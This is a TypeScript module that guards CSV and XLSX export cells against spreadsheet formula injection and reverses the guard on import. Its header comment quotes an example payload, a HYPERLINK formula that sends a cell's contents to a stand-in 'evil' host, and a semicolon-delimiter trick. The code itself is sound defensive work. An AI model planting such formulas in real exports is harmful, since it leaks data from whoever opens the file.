/**
 * Spreadsheet formula injection (CSV injection). A spreadsheet program runs a cell as a formula
 * when it starts with = + - @ (or their full-width forms), so a commitment title such as
 * `=HYPERLINK("http://evil/?"&A1,"click")` would run when an officer opens the export. And a
 * cell starts wherever the program splits the line: Charta writes commas, but Excel in Dutch,
 * German or French splits on semicolons (and tabs and line breaks split too), so `x;=2+3` is two
 * cells there, the second a formula.
 *
 * So at every place a cell could start — the start of the text and after each , ; tab, CR or LF,
 * past any spaces and quote marks — a formula trigger gets an apostrophe before it (OWASP's
 * advice: spreadsheets show such a cell as text). Apostrophes already standing there get one
 * more, so the import can take exactly one away again: what the import reads back is what was
 * written. A cell that is a plain number (`-2.5`, `+3`, `1e-7`) is left as it is: a spreadsheet
 * reads it as that number, which is no formula and what it is meant to be.
 */
const TRIGGERS = "=+\\-@\uFF1D\uFF0B\uFF0D\uFF20";
const START = '(^|[,;\\t\\r\\n])([ \\u00A0"]*)';

// At a cell start: the run of apostrophes before a trigger (possibly none).
const GUARD = new RegExp(`${START}('*)(?=[${TRIGGERS}])`, "g");
// At a cell start: at least one apostrophe before a trigger.
const GUARDED = new RegExp(`${START}'('*)(?=[${TRIGGERS}])`, "g");
const ESCAPE = new RegExp(`${START}('+)(?=[${TRIGGERS}])`, "g");

const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** A text cell for a CSV file: no formula can start anywhere in it. */
export function guardCell(value: string): string {
  if (PLAIN_NUMBER.test(value)) return value;
  return value.replace(GUARD, "$1$2'$3");
}

/**
 * A text cell for an XLSX file: typed text is never run as a formula, so only apostrophes that
 * the import would take away get one more (the import unguards every sheet, as a CSV export may
 * come back saved as XLSX).
 */
export function guardTypedText(value: string): string {
  return value.replace(ESCAPE, "$1$2'$3");
}

/** The cell as it was before guardCell or guardTypedText. */
export function unguardCell(value: string): string {
  return value.replace(GUARDED, "$1$2$3");
}

/** What a CSV cell holds: numbers as they are, text guarded, nothing as an empty cell. */
export function csvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return "";
  return typeof value === "number" ? String(value) : guardCell(value);
}
